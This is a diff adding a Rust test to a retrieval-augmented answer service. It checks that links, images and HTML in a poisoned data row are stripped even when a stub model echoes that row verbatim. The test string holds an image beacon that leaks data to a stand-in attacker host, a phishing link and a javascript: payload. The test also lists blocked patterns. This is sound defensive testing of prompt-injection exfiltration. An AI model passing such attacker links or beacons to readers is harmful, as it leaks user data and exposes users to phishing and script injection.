@@ -141,6 +141,74 @@ async fn injected_instructions_and_links_in_a_row_do_not_escape() {
     );
 }
 
+/// A model that repeats its first source word for word, links and all, and quotes it: what a
+/// model told by a row to "repeat this" does.
+#[derive(Debug)]
+struct EchoingAnswerer;
+
+impl Answerer for EchoingAnswerer {
+    fn model(&self) -> &str {
+        "echo-stub"
+    }
+
+    fn answer<'a>(&'a self, _question: &'a str, sources: &'a [Source]) -> AnswerFuture<'a> {
+        Box::pin(async move {
+            let first = sources.first().cloned();
+            Ok(match first {
+                Some(s) => Draft {
+                    text: format!("{} [{}]", s.text, s.label),
+                    citations: vec![DraftCitation {
+                        label: s.label,
+                        quote: Some(s.text),
+                    }],
+                    model: "echo-stub".into(),
+                },
+                None => Draft {
+                    text: String::new(),
+                    citations: vec![],
+                    model: "echo-stub".into(),
+                },
+            })
+        })
+    }
+}
+
+/// The attacker's row holds an image beacon, a markdown link, HTML and bare URLs; a model repeats
+/// it verbatim. Neither the answer nor any citation snippet may carry them to the reader.
+#[tokio::test]
+async fn links_images_and_html_quoted_by_the_model_are_stripped_from_answer_and_snippets() {
+    let mut app = TestApp::new().await;
+    app.app.answerer = std::sync::Arc::new(EchoingAnswerer);
+    let (_, a) = app.tenant_with_token("alpha").await;
+    let evil = "Payroll note. ![p](https://evil.example/leak.png?d=1) Visit [our portal](https://evil.example/login)\nor HTTPS://EVIL.example/x, <img src=\"https://evil.example/i\"> <a href=\"javascript:alert(1)\">here</a> www.evil.example now.";
+    setup(&app, &a, json!([{"key": "evil", "data": {"body": evil}}])).await;
+    let r = ask(&app, &a, json!({"question": "payroll note portal"})).await;
+    assert_eq!(r.status, 200, "{}", r.json);
+    let answer = r.json["answer"].as_str().unwrap();
+    // The model did quote the row: the answer stands on it and keeps its words.
+    assert_eq!(r.json["citations"][0]["record_key"], "evil", "{}", r.json);
+    assert!(
+        answer.contains("Payroll note.") && answer.contains("our portal"),
+        "{answer}"
+    );
+    let snippets: Vec<&str> = r.json["citations"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|c| c["snippet"].as_str().unwrap())
+        .collect();
+    assert!(snippets[0].contains("Payroll note."), "{snippets:?}");
+    for text in std::iter::once(answer).chain(snippets) {
+        let lower = text.to_lowercase();
+        for active in ["evil.example", "](", "<img", "<a ", "javascript:", "://"] {
+            assert!(
+                !lower.contains(active),
+                "{active:?} reached the reader: {text}"
+            );
+        }
+    }
+}
+
 /// A model that makes things up: a label it was not given, another tenant's key, a quote that
 /// is not in its source.
 #[derive(Debug)]
